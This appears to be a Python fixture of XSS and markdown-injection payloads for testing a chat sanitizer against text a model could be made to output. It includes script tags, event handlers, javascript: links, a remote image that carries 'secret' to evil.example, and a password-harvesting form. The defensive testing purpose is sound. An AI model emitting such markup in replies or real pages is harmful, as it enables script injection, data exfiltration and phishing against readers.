"""What somebody could write, or make a model say, to get at a reader: each class in several forms.

Each tries to set `window.__x`, to ask `evil.example`, to lay something over the page, or to show a form.
"""

from __future__ import annotations

PAYLOADS = {
    "script": (
        "<script>window.__x=1</script>",
        "<ScRiPt src=//evil.example/a.js></sCrIpT>",
        "<scr<script>ipt>window.__x=1</scr</script>ipt>",
    ),
    "handler": (
        "<img src=x onerror=window.__x=1>",
        "<b onmouseover='window.__x=1' style='position:fixed;inset:0'>x</b>",
        "<details open ontoggle=window.__x=1>x</details>",
        "<body onload=window.__x=1>",
        "<input autofocus onfocus=window.__x=1>",
    ),
    "svg": (
        "<svg onload=window.__x=1></svg>",
        "<svg><image href='https://evil.example/s.png'/></svg>",
        "<svg><script>window.__x=1</script></svg>",
        "<math><mtext><img src=x onerror=window.__x=1></mtext></math>",
    ),
    "address": (
        "[click](javascript:window.__x=1)",
        "[click](java&#10;script:window.__x=1)",
        "[click](data:text/html,<script>window.__x=1</script>)",
        "<a href=javascript:window.__x=1>click</a>",
        "<javascript:window.__x=1>",
    ),
    "image": (
        "![x](https://evil.example/a.png?q=secret)",
        "![x][ref]\n\n[ref]: https://evil.example/b.png",
        "<img src=https://evil.example/c.png>",
        "[![x](https://evil.example/d.png)](https://evil.example)",
        "![x](//evil.example/e.png)",
        "<picture><source srcset=https://evil.example/f.png><img></picture>",
    ),
    "media": (
        "<video autoplay src=https://evil.example/v.mp4></video>",
        "<audio autoplay src=https://evil.example/a.mp3></audio>",
        "<iframe src=https://evil.example></iframe>",
        "<object data=https://evil.example/o></object>",
        "<embed src=https://evil.example/o>",
    ),
    "style": (
        "<div style='position:fixed;inset:0;background:red;z-index:9999'>over everything</div>",
        "<style>body{display:none}</style>",
        "<p style='background:url(https://evil.example/bg.png)'>x</p>",
        "<link rel=stylesheet href=https://evil.example/a.css>",
    ),
    "form": (
        "<form action=https://evil.example><input type=password name=p><button>Go on</button></form>",
        "<button formaction=https://evil.example>Go on</button>",
        "<input type=password>",
    ),
    "page": (
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href=https://evil.example/>",
        "</div></div></main><h1 id=case>Forged</h1>",
        "<custom-element onclick=window.__x=1>x</custom-element>",
    ),
    "link": (
        "https://evil.example/bare",
        "www.evil.example",
        "<https://evil.example/auto>",
        "[text](https://evil.example)",
        "[text]( https://evil.example 'title')",
        "someone@evil.example",
        "[1](https://evil.example)",
    ),
    "markdown": (
        "```html\n<script>window.__x=1</script>\n```",
        "`<img src=x onerror=window.__x=1>`",
        "$$\\href{javascript:window.__x=1}{x}$$",
        "| a | <img src=x onerror=window.__x=1> |\n|---|---|\n| b | c |",
        "<!-- <script>window.__x=1</script> -->",
        "&lt;script&gt;window.__x=1&lt;/script&gt;",
    ),
}
"""By class, as the sanitizer of the chat was found to treat them, and our own on top."""
